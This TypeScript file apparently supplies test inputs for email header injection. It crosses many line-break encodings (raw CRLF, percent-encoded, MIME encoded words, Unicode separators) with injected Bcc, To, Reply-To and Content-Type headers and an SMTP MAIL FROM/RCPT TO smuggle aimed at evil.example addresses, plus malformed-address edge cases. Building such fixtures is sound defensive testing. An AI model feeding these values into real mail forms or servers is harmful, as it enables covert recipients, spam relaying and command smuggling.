/** What people type into a line of a letter so that the letter has one more line. */

/** What ends a line somewhere: in mail, in Unicode, in an editor, or once something was decoded. */
const BREAKS = {
  "CRLF": "\r\n",
  "LF": "\n",
  "CR": "\r",
  "NUL": "\0",
  "NUL and CRLF": "\0\r\n",
  "a folded line": "\r\n ",
  "a folded line with a tab": "\r\n\t",
  "two lines": "\r\n\r\n",
  "LF twice": "\n\n",
  "the wrong way round": "\n\r",
  "a vertical tab": "\v",
  "a form feed": "\f",
  "NEL": "\u0085",
  "a line separator": "\u2028",
  "a paragraph separator": "\u2029",
  "in percent": "%0d%0a",
  "in percent, twice": "%250d%250a",
  "as an entity": "&#13;&#10;",
  "as an escape": "\\r\\n",
  "signs whose low bytes are CRLF": "\u010d\u010a",
  "overlong": "\u00c0\u008d\u00c0\u008a",
  "an encoded word": "=?utf-8?Q?=0D=0A?=",
  "an encoded word in base64": "=?utf-8?B?DQo=?=",
  "half an encoded word": "=?utf-8?Q?a=0D",
};

/** What is to stand on that line. */
const LINES = {
  "another recipient": "Bcc: eve@evil.example",
  "another To": "To: eve@evil.example",
  "another Reply-To": "Reply-To: eve@evil.example",
  "another type": "Content-Type: text/html\r\n\r\n<b>x</b>",
  "a command": ".\r\nMAIL FROM:<eve@evil.example>\r\nRCPT TO:<bob@evil.example>",
};

const more: Record<string, string> = {
  "a subject of 1,000 characters": "a".repeat(1_000),
  "1,000 characters of four bytes": "\u{1f570}".repeat(1_000),
  "200 characters without a space": "\u00e4".repeat(200),
  "a name of several recipients": "Ann <a@evil.example>, Bob <b@evil.example>",
  "quotes that do not end": '"Ann <a@evil.example>',
  "angle brackets": "x> <eve@evil.example",
  "a group": "all: eve@evil.example, bob@evil.example;",
  "a comment": "x (eve@evil.example)",
  "an encoded word in the middle": "a =?utf-8?Q?Bcc:_eve@evil.example?= b",
  "an encoded word of UTF-7": "=?utf-7?Q?+AA0ACg-Bcc:_eve@evil.example?=",
  "an encoded word in two halves": "=?utf-8?Q?a?= =?utf-8?Q?=0D=0ABcc:_eve@evil.example?=",
  "a dot by itself": "\r\n.\r\n",
  "turned round": "\u202egro.elpmaxe@eve",
  "half a pair": "a\ud800b",
  "a backslash at the end": 'Ann" \\',
};

/** Strings for a line of a letter, by what they try. */
export const headerStrings: Record<string, string> = {
  ...more,
  ...Object.fromEntries(
    Object.entries(BREAKS).flatMap(([how, end]) =>
      Object.entries(LINES).map(([what, line]) => [`${what} behind ${how}`, `Milk${end}${line}`])
    ),
  ),
};
